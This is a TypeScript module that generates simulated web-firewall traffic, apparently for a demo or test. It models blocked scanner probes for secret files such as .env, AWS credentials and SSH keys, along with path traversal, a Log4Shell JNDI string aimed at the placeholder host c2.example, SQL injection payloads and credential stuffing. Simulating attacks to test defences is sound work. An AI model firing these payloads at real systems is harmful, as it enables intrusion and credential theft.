import {
  ACCESS,
  BULLETPROOF,
  DETAIL,
  HOSTING,
  type MatchedRequest,
  recurs,
  type TrafficPattern,
} from './traffic-pattern.ts';

const probe = (path: string, match: string = path): MatchedRequest => ({
  method: 'GET',
  path,
  ruleId: '930130',
  message: 'Restricted File Access Attempt',
  severity: '',
  status: 'Blocked',
  trigger: ['PMF', match],
});

const scanner = (path: string): MatchedRequest => ({
  method: 'HEAD',
  path,
  ruleId: '913100',
  message: 'Found User-Agent associated with security scanner',
  severity: 'CRITICAL',
  status: 'Blocked',
  trigger: ['PMF', 'zgrab'],
});

/** Scans for known files and vulnerabilities, all day. */
export const scanners: TrafficPattern = {
  name: 'scanners',
  origins: HOSTING,
  subnets: 6,
  agents: [
    'Python/3.10 aiohttp/3.12.15',
    'python-requests/2.32.4',
    'Mozilla/5.0 zgrab/0.x',
    'Go-http-client/1.1',
    'curl/8.15.0',
    '-',
    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  ],
  details: ['.bak', '.old', '~', '.save', '', '.1', '.swp', '.orig'],
  requests: [
    probe('/.env'),
    probe('/.git/config'),
    probe(`/.env${DETAIL}`, '/.env'),
    probe('/wp-login.php'),
    probe('/wp-admin/setup-config.php?step=1', '/wp-admin/'),
    probe('/.aws/credentials'),
    probe(`/backup.sql${DETAIL}`, '/backup.sql'),
    probe('/api/.env.production', '/.env'),
    scanner('/'),
    probe('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'eval-stdin.php'),
    probe('/server-status'),
    scanner('/actuator/health'),
    probe('/.ssh/id_rsa'),
    probe('/cgi-bin/luci/;stok=/locale?form=country', '/cgi-bin/luci'),
    probe('/.DS_Store'),
    probe('/owa/auth/logon.aspx'),
    {
      method: 'GET',
      path: '/index.php?lang=../../../../../../../../tmp/index1',
      ruleId: '930100',
      message: 'Path Traversal Attack (/../) or (/.../)',
      severity: 'CRITICAL',
      status: 'Blocked',
      trigger: ['RX', '/../'],
    },
    {
      method: 'GET',
      path: '/?x=%24%7Bjndi:ldap://c2.example/a%7D',
      ruleId: '944150',
      message: 'Potential Remote Command Execution: Log4j / Log4shell',
      severity: 'CRITICAL',
      status: 'Blocked',
      trigger: ['RX', '${jndi:ldap://'],
    },
  ],
  weight: () => 5,
};

const INJECTION_HOURS = new Set([3, 4, 13, 14]);

const injection = (path: string, ruleId: string, message: string): MatchedRequest => ({
  method: 'GET',
  path,
  ruleId,
  message,
  severity: 'CRITICAL',
  status: 'Blocked',
  trigger: ['RX', DETAIL],
});

/**
 * One network attacking the product search: a few hours a day, and in bursts of seven minutes every 47, so that the
 * last hour always has one.
 */
export const sqlInjection: TrafficPattern = {
  name: 'SQL injection',
  origins: BULLETPROOF,
  subnets: 3,
  agents: [
    'sqlmap/1.9.4#stable (https://sqlmap.org)',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
  ],
  details: [
    "1' OR '1'='1",
    "1' UNION SELECT NULL,NULL,version()-- -",
    '-1 UNION ALL SELECT CONCAT(0x7171,table_name),2 FROM information_schema.tables#',
    "1'; WAITFOR DELAY '0:0:5'--",
    '1 AND SLEEP(5)',
    "1' AND (SELECT 8213 FROM (SELECT(SLEEP(5)))qTxe) AND 'a'='a",
    "') OR EXTRACTVALUE(6123,CONCAT(0x5c,0x716a,(SELECT user())))-- ",
    "1' ORDER BY 11-- -",
  ],
  requests: [
    injection(`/search?q=${DETAIL}`, '942100', 'SQL Injection Attack Detected via libinjection'),
    injection(
      `/products?category=${DETAIL}`,
      '942190',
      'Detects MSSQL code execution and information gathering attempts',
    ),
    injection(
      `/api/v2/items?sort=${DETAIL}`,
      '942160',
      'Detects blind sqli tests using sleep() or benchmark()',
    ),
    {
      ...injection(
        '/api/v2/session',
        '942270',
        'Looking for basic sql injection. Common attack string for mysql, oracle and others',
      ),
      method: 'POST',
      body: `user=admin${DETAIL}&password=x`,
    },
    {
      ...injection(`/track?order=${DETAIL}`, '951220', 'Oracle SQL Information Leakage'),
      trigger: [
        'RX',
        `<html><body><h1>Error</h1><pre>ORA-01756: quoted string not properly terminated: ${DETAIL}</pre>`,
      ],
    },
  ],
  weight(minute, phase) {
    const sweep = recurs(minute, { period: 47, length: 7, phase }) ? 45 : 0;
    return INJECTION_HOURS.has(Math.floor(minute / 60) % 24) ? sweep + 4 : sweep;
  },
};

const STUFFING_PERIOD = 31;
const STUFFING_LENGTH = 11;

/** Whether the log-in form is under attack in a minute. The rate limits use this, too. */
export const isStuffing = (minute: number, phase: number): boolean =>
  recurs(minute, { period: STUFFING_PERIOD, length: STUFFING_LENGTH, phase });

const LOGIN_REQUEST = {
  method: 'POST',
  severity: 'WARNING',
} as const;

/** Stolen passwords tried at the log-in form, from very many addresses. */
export const credentialStuffing: TrafficPattern = {
  name: 'credential stuffing',
  origins: ACCESS,
  subnets: 250,
  agents: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.5005.61 Safari/537.36',
    'okhttp/4.9.3',
    'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:54.0) Gecko/20100101 Firefox/54.0',
  ],
  details: 'maria.k jan1984 info thomas c.dupont kevin99 lena admin r.singh paulo shop yuki'.split(
    ' ',
  ),
  requests: [
    {
      ...LOGIN_REQUEST,
      path: '/login',
      ruleId: '100021',
      message: 'Rate limit exceeded: log-in attempts',
      status: 'Challenged',
      trigger: ['GT', '20 requests in 60 s'],
      body: `email=${DETAIL}%40mail.example&password=%2A%2A%2A%2A%2A%2A%2A%2A`,
    },
    {
      ...LOGIN_REQUEST,
      path: '/api/v2/session',
      ruleId: '100022',
      message: 'Known leaked credentials',
      status: 'Blocked',
      trigger: ['PM', `${DETAIL}@mail.example`],
      body: `email=${DETAIL}%40mail.example&password=%2A%2A%2A%2A%2A%2A%2A%2A`,
    },
    {
      ...LOGIN_REQUEST,
      path: '/account/reset-password',
      ruleId: '100021',
      message: 'Rate limit exceeded: log-in attempts',
      status: 'Logged',
      trigger: ['GT', '20 requests in 60 s'],
      body: `email=${DETAIL}%40mail.example`,
    },
  ],
  weight: (minute, phase) => (isStuffing(minute, phase) ? 9 : 0.2),
};
